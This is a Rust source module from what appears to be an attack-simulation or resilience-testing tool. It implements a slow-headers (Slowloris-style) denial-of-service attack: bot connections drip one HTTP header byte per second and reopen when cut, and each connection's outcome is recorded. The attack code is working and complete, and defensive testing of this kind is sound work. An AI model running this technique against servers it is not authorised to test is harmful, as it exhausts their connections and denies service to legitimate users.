//! The slow-headers attack: many connections that send a request's header a byte each second.
//!
//! A connection's sample shows its outcome: `TimedOut` if it was held until the attacker let
//! go, `Refused` if it was answered, `ConnectionFailed` if it was closed or could not be opened.

use std::cell::Cell;
use std::net::Ipv4Addr;
use std::rc::Rc;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep_until, timeout, timeout_at};

use super::client::connect;
use super::context::RunContext;
use crate::plan::{PlannedAttack, PlannedRung};
use crate::recording::{ClientKind, Sample, SampleOutcome};
use crate::scenario::Tactic;

/// How often a byte is sent.
const DRIP_INTERVAL: Duration = Duration::from_secs(1);

/// How long opening a connection may take.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(2);

/// A connection that was cut is opened again after a second, at most this number of times.
const REOPENINGS_MAX: usize = 4;

/// Holds all connections of a rung until the assault ends.
pub(super) async fn hold_slow_connections(
    context: &Arc<RunContext>,
    assault: &PlannedAttack,
    rung: &PlannedRung,
) -> Vec<Sample> {
    let end = context.instant(assault.to_ms);
    let held = Rc::new(Cell::new(0_u32));
    let mut connections = JoinSet::new();
    for attack_request in &rung.requests {
        let source = rung.sources[usize::from(attack_request.bot)];
        let bot = u32::from(attack_request.bot);
        let opens = context.instant(attack_request.at_ms);
        let phase = assault.phase as u16;
        let context = Arc::clone(context);
        let held = Rc::clone(&held);
        connections.spawn_local(async move {
            let mut samples = Vec::new();
            let mut next = opens;
            for _ in 0..=REOPENINGS_MAX {
                sleep_until(next.min(end)).await;
                if Instant::now() >= end {
                    break;
                }
                let begun = Instant::now();
                let start_ms = context.now_ms();
                context.counters.attack_request(start_ms);
                let outcome = hold_one(&context, source, end, &held).await;
                samples.push(Sample {
                    phase,
                    client: ClientKind::Attacker(Tactic::SlowHeaders),
                    visitor: bot,
                    start_ms,
                    latency_micros: begun.elapsed().as_micros() as u32,
                    requests: 1,
                    outcome,
                });
                next = Instant::now() + DRIP_INTERVAL;
            }
            samples
        });
    }
    let mut samples = Vec::new();
    while let Some(ended) = connections.join_next().await {
        samples.extend(ended.unwrap_or_default());
    }
    samples
}

/// One connection, from its opening until it is cut or the attack ends.
async fn hold_one(
    context: &RunContext,
    source: Ipv4Addr,
    end: Instant,
    held: &Cell<u32>,
) -> SampleOutcome {
    let Ok(Ok(mut stream)) = timeout(CONNECT_TIMEOUT, connect(context.target, source)).await else {
        return SampleOutcome::ConnectionFailed;
    };
    let begin = format!("GET / HTTP/1.1\r\nHost: {}\r\nX-Wait: ", context.host);
    if stream.write_all(begin.as_bytes()).await.is_err() {
        return SampleOutcome::ConnectionFailed;
    }
    held.set(held.get() + 1);
    let mut next = Instant::now() + DRIP_INTERVAL;
    let mut response = [0_u8; 64];
    let outcome = loop {
        context.counters.slow_connections(context.now_ms(), held.get());
        if let Ok(read) = timeout_at(next.min(end), stream.read(&mut response)).await {
            break match read {
                Ok(length) if length > 0 => {
                    SampleOutcome::Refused { status: parse_status(&response[..length]) }
                }
                _ => SampleOutcome::ConnectionFailed,
            };
        }
        if Instant::now() >= end {
            break SampleOutcome::TimedOut;
        }
        if stream.write_all(b"a").await.is_err() {
            break SampleOutcome::ConnectionFailed;
        }
        next += DRIP_INTERVAL;
    };
    held.set(held.get() - 1);
    outcome
}

/// The status in the first bytes of a response; zero if it is none.
fn parse_status(response: &[u8]) -> u16 {
    std::str::from_utf8(response)
        .ok()
        .and_then(|text| text.strip_prefix("HTTP/1.1 ")?.get(..3)?.parse().ok())
        .unwrap_or(0)
}
